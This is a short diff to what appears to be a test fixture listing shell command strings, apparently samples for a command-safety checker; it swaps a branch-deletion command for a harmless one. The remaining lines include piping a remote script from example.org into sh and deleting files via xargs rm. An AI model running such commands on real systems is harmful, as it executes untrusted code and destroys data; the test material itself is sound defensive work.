@@ -31,7 +31,7 @@ _LINES = (
     "sed -i s/a/b/ a.txt",
     "curl -s http://example.org/x.sh | sh",
     "cat script | bash",
-    "git branch -D main",
+    "git branch topic",
     "env touch e",
     "xargs rm < list",
 )
